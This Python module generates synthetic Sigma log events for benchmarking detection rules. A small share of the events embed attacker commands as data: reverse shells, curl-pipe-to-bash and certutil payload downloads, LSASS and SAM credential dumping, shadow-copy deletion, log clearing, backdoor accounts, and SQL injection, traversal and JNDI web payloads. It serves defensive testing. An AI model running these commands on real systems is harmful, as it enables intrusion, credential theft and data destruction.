"""Reproducible mixed event corpus for benchmarks: realistic fields per Sigma log source.

``generate(n, seed)`` returns ``n`` ``(LogSource, event)`` pairs drawn from the log
sources the SigmaHQ corpus covers (Windows Sysmon/Security/System/PowerShell,
Linux process/auditd, macOS, AWS CloudTrail, Azure, GCP, Okta, GitHub, web
server, proxy, DNS), weighted roughly like a real estate. Most events are
benign activity that matches nothing; a small share (``suspicious_share``,
default 3%) carries well-known attacker tradecraft (encoded PowerShell, LOLBins,
credential dumping, shadow-copy deletion, reverse shells, web scanners, ...),
which is what real detections fire on. The same seed always yields the same
events, so runs are comparable.

Command line (for other benchmarks)::

    python bench/eventgen.py --events 100000 --seed 1 > events.ndjson

writes one JSON object per line with the log source under ``"logsource"``
(``--no-logsource`` leaves it out).
"""

from __future__ import annotations

import argparse
import random
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

if __package__ in (None, ""):  # run as a script: make the project importable
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from detectors.model import LogSource

Event = dict[str, Any]

# --- shared vocabulary -------------------------------------------------------------------------

USERS = ("alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "svc_build",
         "svc_backup", "jenkins", "gitlab-runner")
HOSTS = tuple(f"{p}{i:02d}" for p in ("ws", "srv", "build", "dc", "web") for i in range(1, 13))
DOMAIN = "CORP"
SYS32 = "C:\\Windows\\System32\\"
BENIGN_WIN = (
    (SYS32 + "svchost.exe", "svchost.exe -k netsvcs -p -s {svc}", SYS32 + "services.exe"),
    (SYS32 + "svchost.exe", "svchost.exe -k LocalServiceNetworkRestricted -p", SYS32 + "services.exe"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", SYS32 + "userinit.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US "
     "--renderer-client-id={n} --field-trial-handle={hex}", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility "
     "--utility-sub-type=network.mojom.NetworkService --mojo-platform-channel-handle={n}",
     "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"),
    (SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", SYS32 + "cmd.exe"),
    (SYS32 + "taskhostw.exe", "taskhostw.exe {guid}", SYS32 + "svchost.exe"),
    (SYS32 + "RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", SYS32 + "svchost.exe"),
    (SYS32 + "dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{guid}", SYS32 + "svchost.exe"),
    (SYS32 + "SearchProtocolHost.exe",
     "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}",
     SYS32 + "SearchIndexer.exe"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git fetch --prune origin", "C:\\Program Files\\Git\\bin\\bash.exe"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git status --porcelain", "C:\\Users\\{user}\\AppData\\Local\\Programs\\"
     "Microsoft VS Code\\Code.exe"),
    ("C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe",
     "python.exe -m pytest -q tests\\unit --maxfail=1", "C:\\Program Files\\Git\\bin\\bash.exe"),
    ("C:\\Program Files\\nodejs\\node.exe", "node.exe C:\\build\\{word}\\node_modules\\.bin\\webpack --mode production",
     SYS32 + "cmd.exe"),
    ("C:\\Program Files\\Java\\jdk-17\\bin\\java.exe",
     "\"C:\\Program Files\\Java\\jdk-17\\bin\\java.exe\" -Xmx2g -jar C:\\build\\agent\\{word}.jar", SYS32 + "services.exe"),
    ("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
     "\"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=gpu-process", "C:\\Windows\\explorer.exe"),
    (SYS32 + "backgroundTaskHost.exe", "\"backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
     SYS32 + "svchost.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle", "C:\\Windows\\explorer.exe"),
    ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
     SYS32 + "svchost.exe"),
    (SYS32 + "msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", SYS32 + "services.exe"),
)
SUSPICIOUS_WIN = (
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     SYS32 + "cmd.exe"),
    (SYS32 + "certutil.exe", "certutil.exe -urlcache -split -f http://{ip}/payload.exe C:\\Users\\Public\\p.exe",
     SYS32 + "cmd.exe"),
    (SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", SYS32 + "cmd.exe"),
    (SYS32 + "rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
     SYS32 + "cmd.exe"),
    (SYS32 + "whoami.exe", "whoami /priv", SYS32 + "cmd.exe"),
    (SYS32 + "reg.exe", "reg save HKLM\\SAM C:\\Users\\Public\\sam.save", SYS32 + "cmd.exe"),
    (SYS32 + "schtasks.exe", "schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\upd.exe /ru SYSTEM",
     SYS32 + "cmd.exe"),
    ("C:\\Users\\{user}\\Downloads\\mimikatz.exe", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
     SYS32 + "cmd.exe"),
    (SYS32 + "mshta.exe", "mshta.exe vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell\"\"\")",
     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    (SYS32 + "bitsadmin.exe", "bitsadmin /transfer job /download /priority high http://{ip}/a.exe C:\\temp\\a.exe",
     SYS32 + "cmd.exe"),
    (SYS32 + "net.exe", "net user backdoor P@ssw0rd! /add", SYS32 + "cmd.exe"),
    (SYS32 + "wevtutil.exe", "wevtutil cl Security", SYS32 + "cmd.exe"),
)
LINUX_BENIGN = (
    ("/usr/bin/git", "git clone https://github.com/{word}/{word}.git"),
    ("/usr/bin/make", "make -j4 test"),
    ("/usr/bin/python3", "python3 -m pip install -r requirements.txt"),
    ("/usr/bin/docker", "docker build -t registry.corp.example/{word}:{n} ."),
    ("/usr/bin/kubectl", "kubectl rollout status deployment/{word} -n prod"),
    ("/usr/bin/ls", "ls -la /var/lib/{word}"),
    ("/usr/bin/cat", "cat /etc/os-release"),
    ("/usr/bin/grep", "grep -r TODO src/"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f"),
    ("/usr/bin/ssh", "ssh -o BatchMode=yes deploy@{host} uptime"),
    ("/usr/bin/tar", "tar czf /tmp/{word}-{n}.tgz build/"),
    ("/usr/bin/java", "java -jar /opt/{word}/app.jar --spring.profiles.active=prod"),
)
LINUX_SUSPICIOUS = (
    ("/usr/bin/bash", "bash -i >& /dev/tcp/{ip}/4444 0>&1"),
    ("/usr/bin/curl", "curl -s http://{ip}/x.sh | bash"),
    ("/usr/bin/base64", "base64 -d /tmp/.x | sh"),
    ("/usr/bin/nc", "nc -e /bin/sh {ip} 4444"),
    ("/usr/bin/chmod", "chmod +s /bin/bash"),
    ("/usr/bin/crontab", "crontab -r"),
    ("/usr/bin/cat", "cat /etc/shadow"),
)
USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "kube-probe/1.29",
)
SUSPICIOUS_AGENTS = ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "masscan/1.3", "zgrab/0.x")
URIS = ("/", "/index.html", "/api/v1/orders", "/api/v1/users/{n}", "/static/app.{hex}.js", "/health", "/login",
        "/products/{word}", "/search")
SUSPICIOUS_URIS = ("/index.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
                   "/cgi-bin/../../../../etc/passwd", "/.env", "/wp-admin/admin-ajax.php?action=revslider_show_image"
                   "&img=../wp-config.php", "/?x=${jndi:ldap://{ip}/a}", "/shell.jsp?cmd=whoami")
WORDS = ("payments", "orders", "frontend", "infra", "reports", "billing", "auth", "search", "catalog", "metrics")
AWS_EVENTS = (("s3.amazonaws.com", "GetObject"), ("s3.amazonaws.com", "PutObject"), ("ec2.amazonaws.com",
              "DescribeInstances"), ("sts.amazonaws.com", "AssumeRole"), ("iam.amazonaws.com", "ListRoles"),
              ("lambda.amazonaws.com", "Invoke"), ("kms.amazonaws.com", "Decrypt"), ("logs.amazonaws.com",
              "PutLogEvents"))
AWS_SUSPICIOUS = (("cloudtrail.amazonaws.com", "StopLogging"), ("guardduty.amazonaws.com", "DeleteDetector"),
                  ("iam.amazonaws.com", "CreateAccessKey"), ("ec2.amazonaws.com", "DisableEbsEncryptionByDefault"),
                  ("s3.amazonaws.com", "PutBucketPolicy"))


class Vocab:
    """Random building blocks, all drawn from one seeded generator."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def hex(self, n: int = 16) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def guid(self) -> str:
        h = self.hex(32)
        return f"{{{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}}}".upper()

    def ip(self, internal: bool = True) -> str:
        r = self.rng
        if internal:
            return f"10.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"
        return f"{r.choice((34, 52, 81, 104, 151, 185, 203))}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def fill(self, template: str) -> str:
        r = self.rng
        out = template
        makers: tuple[tuple[str, Callable[[], str]], ...] = (
                         ("{user}", lambda: r.choice(USERS)), ("{n}", lambda: str(r.randrange(1, 99999))),
                          ("{hex}", lambda: self.hex(r.choice((8, 16)))), ("{guid}", self.guid),
                          ("{word}", lambda: r.choice(WORDS)), ("{ip}", lambda: self.ip(False)),
                          ("{svc}", lambda: r.choice(("Schedule", "Winmgmt", "BITS", "gpsvc", "ProfSvc"))),
                          ("{host}", lambda: r.choice(HOSTS)))
        for key, make in makers:
            while key in out:
                out = out.replace(key, make(), 1)
        return out


# --- one maker per log source -------------------------------------------------------------------

def win_process(v: Vocab, bad: bool) -> Event:
    r = v.rng
    image, cmd, parent = r.choice(SUSPICIOUS_WIN if bad else BENIGN_WIN)
    user = r.choice(USERS)
    image, cmd, parent = v.fill(image), v.fill(cmd), v.fill(parent)
    return {
        "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": f"{r.choice(HOSTS)}.corp.example",
        "UtcTime": f"2026-11-{r.randint(1, 28):02d} {r.randrange(24):02d}:{r.randrange(60):02d}:{r.randrange(60):02d}.{r.randrange(1000):03d}",
        "ProcessGuid": v.guid(), "ProcessId": r.randrange(100, 30000), "Image": image,
        "FileVersion": "10.0.19041.1", "Description": image.rsplit("\\", 1)[-1].removesuffix(".exe").title(),
        "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
        "OriginalFileName": image.rsplit("\\", 1)[-1], "CommandLine": cmd,
        "CurrentDirectory": f"C:\\Users\\{user}\\", "User": f"{DOMAIN}\\{user}", "LogonGuid": v.guid(),
        "LogonId": "0x" + v.hex(6), "TerminalSessionId": 1, "IntegrityLevel": r.choice(("Medium", "High", "System")),
        "Hashes": f"SHA1={v.hex(40).upper()},MD5={v.hex(32).upper()},SHA256={v.hex(64).upper()},IMPHASH={v.hex(32).upper()}",
        "ParentProcessGuid": v.guid(), "ParentProcessId": r.randrange(100, 30000), "ParentImage": parent,
        "ParentCommandLine": parent if " " not in parent else f"\"{parent}\"", "ParentUser": f"{DOMAIN}\\{user}",
    }


def win_registry(v: Vocab, bad: bool) -> Event:
    r = v.rng
    if bad:
        key, details = r.choice((
            ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "C:\\Users\\Public\\upd.exe"),
            ("HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\DisableRestrictedAdmin", "DWORD (0x00000000)"),
            ("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "DWORD (0x00000001)"),
        ))
    else:
        key, details = r.choice((
            (f"HKU\\S-1-5-21-{r.randrange(10**9)}\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\{v.hex(8)}",
             "DWORD (0x00000001)"),
            ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Publishers\\" + v.guid() + "\\Enabled",
             "DWORD (0x00000001)"),
            (f"HKU\\S-1-5-21-{r.randrange(10**9)}\\Software\\Google\\Chrome\\PreferenceMACs\\Default\\{v.hex(6)}",
             v.hex(64).upper()),
        ))
    return {"EventID": 13, "EventType": "SetValue", "Image": r.choice(BENIGN_WIN)[0], "TargetObject": key,
            "Details": details, "ProcessId": r.randrange(100, 30000), "User": f"{DOMAIN}\\{r.choice(USERS)}"}


def win_file(v: Vocab, bad: bool) -> Event:
    r = v.rng
    user = r.choice(USERS)
    if bad:
        target = r.choice((f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.lnk",
                           "C:\\Windows\\Temp\\lsass.dmp", "C:\\Users\\Public\\mimikatz.exe"))
    else:
        target = r.choice((f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{v.hex(8)}.tmp",
                           f"C:\\Users\\{user}\\Documents\\{r.choice(WORDS)}-{r.randrange(99)}.docx",
                           f"C:\\build\\{r.choice(WORDS)}\\out\\{v.hex(6)}.obj",
                           f"C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\{v.hex(10)}.bin"))
    return {"EventID": 11, "Image": v.fill(r.choice(BENIGN_WIN)[0]), "TargetFilename": target,
            "CreationUtcTime": "2026-11-25 10:00:00.000", "ProcessId": r.randrange(100, 30000),
            "User": f"{DOMAIN}\\{user}"}


def win_network(v: Vocab, bad: bool) -> Event:
    r = v.rng
    image = SYS32 + ("rundll32.exe" if bad else "svchost.exe") if r.random() < 0.5 else v.fill(r.choice(BENIGN_WIN)[0])
    return {"EventID": 3, "Image": image, "User": f"{DOMAIN}\\{r.choice(USERS)}", "Protocol": "tcp",
            "Initiated": "true", "SourceIp": v.ip(), "SourceHostname": f"{r.choice(HOSTS)}.corp.example",
            "SourcePort": r.randrange(49152, 65535), "DestinationIp": v.ip(r.random() < 0.3),
            "DestinationHostname": r.choice(("login.microsoftonline.com", "github.com", "pypi.org",
                                             "registry.npmjs.org", "api.corp.example",
                                             "pastebin.com" if bad else "www.bing.com")),
            "DestinationPort": r.choice((443, 443, 443, 80, 53, 4444 if bad else 8443))}


def win_image_load(v: Vocab, bad: bool) -> Event:
    r = v.rng
    dll = r.choice(("ntdll.dll", "kernel32.dll", "user32.dll", "crypt32.dll", "wininet.dll", "clr.dll"))
    if bad:
        dll = r.choice(("dbghelp.dll", "vaultcli.dll", "samlib.dll"))
    return {"EventID": 7, "Image": v.fill(r.choice(SUSPICIOUS_WIN if bad else BENIGN_WIN)[0]),
            "ImageLoaded": SYS32 + dll, "Signed": "true", "SignatureStatus": "Valid",
            "Signature": "Microsoft Windows", "Hashes": f"SHA256={v.hex(64).upper()}",
            "OriginalFileName": dll.upper()}


def win_ps_script(v: Vocab, bad: bool) -> Event:
    r = v.rng
    if bad:
        text = r.choice(("IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')",
                         "Invoke-Mimikatz -DumpCreds", "[System.Convert]::FromBase64String($e) | Invoke-Expression",
                         "Set-MpPreference -DisableRealtimeMonitoring $true"))
    else:
        text = r.choice(("Get-ChildItem -Path C:\\build\\{word} -Recurse | Measure-Object",
                         "Import-Module ActiveDirectory; Get-ADUser -Filter * -SearchBase 'OU={word},DC=corp'",
                         "$env:PATH += ';C:\\tools'; dotnet build -c Release",
                         "Get-Service | Where-Object {$_.Status -eq 'Running'} | Select-Object Name",
                         "Write-Host \"Deploying {word} build {n}\""))
    return {"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "MessageNumber": 1,
            "MessageTotal": 1, "ScriptBlockText": v.fill(text), "ScriptBlockId": v.guid()[1:-1].lower(),
            "Path": ""}


def win_security(v: Vocab, bad: bool) -> Event:
    r = v.rng
    user = r.choice(USERS)
    base = {"Channel": "Security", "Computer": f"{r.choice(HOSTS)}.corp.example",
            "SubjectUserName": f"{r.choice(HOSTS).upper()}$", "SubjectDomainName": DOMAIN,
            "SubjectLogonId": "0x3e7", "TargetUserName": user, "TargetDomainName": DOMAIN}
    if bad:
        return {**base, **r.choice((
            {"EventID": 1102, "SubjectUserName": user},
            {"EventID": 4720, "TargetUserName": "backdoor$", "SamAccountName": "backdoor$"},
            {"EventID": 4769, "TicketEncryptionType": "0x17", "ServiceName": "MSSQLSvc", "TicketOptions": "0x40810000",
             "Status": "0x0"},
            {"EventID": 4625, "LogonType": 3, "IpAddress": v.ip(False), "Status": "0xc000006d",
             "SubStatus": "0xc0000064", "TargetUserName": "administrator"},
        ))}
    event_id = r.choice((4624, 4624, 4624, 4634, 4672, 4688, 4648, 4776, 5156, 4625))
    extra: Event = {"EventID": event_id}
    if event_id in (4624, 4625):
        extra |= {"LogonType": r.choice((2, 3, 3, 5, 10)), "IpAddress": v.ip(), "IpPort": str(r.randrange(1024, 65535)),
                  "LogonProcessName": "NtLmSsp", "AuthenticationPackageName": r.choice(("NTLM", "Kerberos")),
                  "WorkstationName": r.choice(HOSTS).upper(), "ProcessName": SYS32 + "lsass.exe"}
    if event_id == 4688:
        image, cmd, parent = r.choice(BENIGN_WIN)
        extra |= {"NewProcessName": v.fill(image), "CommandLine": v.fill(cmd), "ParentProcessName": v.fill(parent),
                  "TokenElevationType": "%%1936", "MandatoryLabel": "S-1-16-8192"}
    return {**base, **extra}


def win_system(v: Vocab, bad: bool) -> Event:
    r = v.rng
    if bad:
        return {"EventID": 7045, "Channel": "System", "Provider_Name": "Service Control Manager",
                "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service",
                "StartType": "demand start", "AccountName": "LocalSystem"}
    return {"EventID": r.choice((7036, 7040, 10016, 6013, 1014)), "Channel": "System",
            "Provider_Name": r.choice(("Service Control Manager", "Microsoft-Windows-DistributedCOM", "EventLog")),
            "param1": r.choice(("Windows Update", "Background Intelligent Transfer Service", "Print Spooler")),
            "param2": r.choice(("running", "stopped"))}


def linux_process(v: Vocab, bad: bool) -> Event:
    r = v.rng
    image, cmd = r.choice(LINUX_SUSPICIOUS if bad else LINUX_BENIGN)
    return {"Image": image, "CommandLine": v.fill(cmd), "ParentImage": r.choice(("/usr/bin/bash", "/usr/bin/sh",
            "/usr/lib/systemd/systemd", "/usr/bin/python3")), "User": r.choice(("root", "deploy", "gitlab-runner",
            "www-data")), "CurrentDirectory": f"/home/{r.choice(USERS)}", "ProcessId": r.randrange(100, 60000),
            "LogonId": r.randrange(1000, 9000)}


def linux_auditd(v: Vocab, bad: bool) -> Event:
    r = v.rng
    if bad:
        return {"type": "EXECVE", "argc": 3, "a0": "chattr", "a1": "-i", "a2": "/etc/passwd", "key": "immutable"}
    return {"type": r.choice(("SYSCALL", "PATH", "CWD", "EXECVE", "USER_LOGIN")), "syscall": r.choice(("59", "2", "257")),
            "exe": r.choice(("/usr/bin/ls", "/usr/bin/git", "/usr/sbin/sshd")), "comm": r.choice(("ls", "git", "sshd")),
            "uid": str(r.choice((0, 1000, 1001))), "success": "yes", "key": r.choice(("exec", "config", "(null)")),
            "name": f"/var/lib/{r.choice(WORDS)}/{v.hex(6)}"}


def macos_process(v: Vocab, bad: bool) -> Event:
    r = v.rng
    if bad:
        return {"Image": "/usr/bin/osascript", "CommandLine": "osascript -e 'display dialog \"Password\" default "
                "answer \"\" with hidden answer'", "ParentImage": "/bin/zsh"}
    image, cmd = r.choice((("/usr/bin/git", "git pull"), ("/usr/local/bin/brew", "brew update"),
                           ("/Applications/Xcode.app/Contents/Developer/usr/bin/xcodebuild", "xcodebuild -scheme App")))
    return {"Image": image, "CommandLine": cmd, "ParentImage": "/bin/zsh", "User": r.choice(USERS)}


def aws_cloudtrail(v: Vocab, bad: bool) -> Event:
    r = v.rng
    source, name = r.choice(AWS_SUSPICIOUS if bad else AWS_EVENTS)
    return {"eventVersion": "1.09", "eventSource": source, "eventName": name, "awsRegion": r.choice(("eu-west-1",
            "us-east-1")), "sourceIPAddress": v.ip(False), "userAgent": r.choice(("aws-cli/2.15.0", "Boto3/1.34.0",
            "console.amazonaws.com")), "userIdentity": {"type": r.choice(("IAMUser", "AssumedRole")),
            "arn": f"arn:aws:iam::123456789012:user/{r.choice(USERS)}", "accountId": "123456789012"},
            "requestParameters": {"bucketName": f"corp-{r.choice(WORDS)}"}, "eventType": "AwsApiCall",
            "errorCode": None if r.random() < 0.95 else "AccessDenied", "recipientAccountId": "123456789012"}


def azure_activity(v: Vocab, bad: bool) -> Event:
    r = v.rng
    op = "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE" if bad else r.choice((
        "MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION", "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION",
        "MICROSOFT.WEB/SITES/WRITE"))
    return {"operationName": op, "category": "Administrative", "resultType": "Success",
            "caller": f"{r.choice(USERS)}@corp.example", "callerIpAddress": v.ip(False), "level": "Informational"}


def azure_signin(v: Vocab, bad: bool) -> Event:
    r = v.rng
    return {"Status": "failure" if bad else "success", "ResultType": "50126" if bad else "0",
            "UserPrincipalName": f"{r.choice(USERS)}@corp.example", "AppDisplayName": r.choice(("Office 365",
            "Azure Portal", "Microsoft Teams")), "IPAddress": v.ip(False), "ClientAppUsed": "Browser",
            "AuthenticationRequirement": "multiFactorAuthentication"}


def gcp_audit(v: Vocab, bad: bool) -> Event:
    r = v.rng
    method = "SetIamPolicy" if bad else r.choice(("storage.objects.get", "compute.instances.list",
                                                   "io.k8s.core.v1.pods.list"))
    return {"gcp.audit.method_name": method, "gcp.audit.service_name": "cloudresourcemanager.googleapis.com",
            "gcp.audit.principal_email": f"{r.choice(USERS)}@corp.example", "gcp.audit.status_code": 0}


def okta(v: Vocab, bad: bool) -> Event:
    r = v.rng
    etype = "user.mfa.factor.deactivate" if bad else r.choice(("user.session.start", "user.authentication.sso",
                                                              "app.oauth2.token.grant"))
    user = r.choice(USERS)
    return {"eventType": etype, "displayMessage": etype.replace(".", " "), "severity": "INFO",  # Okta System Log
            "outcome": {"result": "SUCCESS"}, "actor": {"alternateId": f"{user}@corp.example", "type": "User",
                                                        "displayName": user.title()},
            "client": {"ipAddress": v.ip(False), "userAgent": {"rawUserAgent": r.choice(USER_AGENTS)}}}


def github_audit(v: Vocab, bad: bool) -> Event:
    r = v.rng
    action = r.choice(("repo.destroy", "org.remove_member", "repository_vulnerability_alert.dismiss")) if bad else \
        r.choice(("git.clone", "git.push", "pull_request.merge", "workflows.completed_workflow_run", "repo.create"))
    return {"action": action, "actor": r.choice(USERS), "org": "corp", "repo": f"corp/{r.choice(WORDS)}",
            "actor_ip": v.ip(False), "created_at": 1764064800000 + r.randrange(10**8)}


def webserver(v: Vocab, bad: bool) -> Event:
    r = v.rng
    uri = v.fill(r.choice(SUSPICIOUS_URIS if bad else URIS))
    stem, _, query = uri.partition("?")
    return {"c-ip": v.ip(False), "cs-method": r.choice(("GET", "GET", "GET", "POST")), "cs-uri-stem": stem,
            "cs-uri-query": query, "sc-status": r.choice((200, 200, 200, 304, 404, 500)),
            "cs-user-agent": r.choice(SUSPICIOUS_AGENTS if bad else USER_AGENTS),
            "cs-referer": r.choice(("-", "https://www.corp.example/")), "cs-host": "www.corp.example"}


def proxy(v: Vocab, bad: bool) -> Event:
    r = v.rng
    host = r.choice(("pastebin.com", "transfer.sh", "ngrok.io", f"{v.hex(12)}.onion.ws")) if bad else \
        r.choice(("github.com", "pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "login.microsoftonline.com"))
    return {"c-ip": v.ip(), "cs-method": "GET", "cs-host": host, "c-uri": f"https://{host}/{v.hex(8)}",
            "c-uri-extension": r.choice(("", "js", "json", "exe" if bad else "html")),
            "c-useragent": r.choice(USER_AGENTS), "sc-status": 200, "r-dns": host}


def dns(v: Vocab, bad: bool) -> Event:
    r = v.rng
    query = r.choice((f"{v.hex(40)}.dnscat.example", "raw.githubusercontent.com", "api.telegram.org")) if bad else \
        r.choice(("www.google.com", "github.com", "api.corp.example", "time.windows.com", f"{r.choice(HOSTS)}.corp.example"))
    return {"query": query, "record_type": r.choice(("A", "AAAA", "TXT" if bad else "A")), "answer": v.ip(False),
            "src_ip": v.ip()}


def win_dns_query(v: Vocab, bad: bool) -> Event:
    event = dns(v, bad)
    return {"EventID": 22, "QueryName": event["query"], "QueryStatus": "0", "Image": v.fill(v.rng.choice(BENIGN_WIN)[0]),
            "QueryResults": event["answer"]}


SOURCES: tuple[tuple[LogSource, Callable[[Vocab, bool], Event], int], ...] = (
    (LogSource("windows", "process_creation"), win_process, 30),
    (LogSource("windows", None, "security"), win_security, 12),
    (LogSource("windows", "registry_set"), win_registry, 8),
    (LogSource("windows", "file_event"), win_file, 8),
    (LogSource("windows", "image_load"), win_image_load, 6),
    (LogSource("windows", "network_connection"), win_network, 5),
    (LogSource("windows", "ps_script"), win_ps_script, 4),
    (LogSource("windows", None, "system"), win_system, 2),
    (LogSource("windows", "dns_query"), win_dns_query, 2),
    (LogSource("linux", "process_creation"), linux_process, 6),
    (LogSource("linux", None, "auditd"), linux_auditd, 3),
    (LogSource("macos", "process_creation"), macos_process, 1),
    (LogSource("aws", None, "cloudtrail"), aws_cloudtrail, 3),
    (LogSource("azure", None, "activitylogs"), azure_activity, 1),
    (LogSource("azure", None, "signinlogs"), azure_signin, 1),
    (LogSource("gcp", None, "gcp.audit"), gcp_audit, 1),
    (LogSource("okta", None, "okta"), okta, 1),
    (LogSource("github", None, "audit"), github_audit, 1),
    (LogSource(None, "webserver"), webserver, 3),
    (LogSource(None, "proxy"), proxy, 2),
    (LogSource(None, "dns"), dns, 1),
)


def iter_events(n: int, seed: int = 1, suspicious_share: float = 0.03) -> Iterator[tuple[LogSource, Event]]:
    """``n`` reproducible ``(log source, event)`` pairs."""
    rng = random.Random(seed)
    vocab = Vocab(rng)
    makers = [(ls, make) for ls, make, _ in SOURCES]
    weights = [w for _, _, w in SOURCES]
    for _ in range(n):
        logsource, make = rng.choices(makers, weights)[0]
        yield logsource, make(vocab, rng.random() < suspicious_share)


def generate(n: int, seed: int = 1, suspicious_share: float = 0.03) -> list[tuple[LogSource, Event]]:
    return list(iter_events(n, seed, suspicious_share))


def main(argv: list[str] | None = None) -> int:
    import orjson

    parser = argparse.ArgumentParser(description="Write a reproducible mixed event corpus as NDJSON.")
    parser.add_argument("--events", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--suspicious-share", type=float, default=0.03)
    parser.add_argument("--no-logsource", action="store_true", help="do not add the logsource object")
    args = parser.parse_args(argv)
    out = sys.stdout.buffer
    try:
        for logsource, event in iter_events(args.events, args.seed, args.suspicious_share):
            if not args.no_logsource:
                event = {**event, "logsource": logsource.as_dict()}
            out.write(orjson.dumps(event, option=orjson.OPT_APPEND_NEWLINE))
        out.flush()
    except BrokenPipeError:  # e.g. piped into head
        sys.stderr.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())

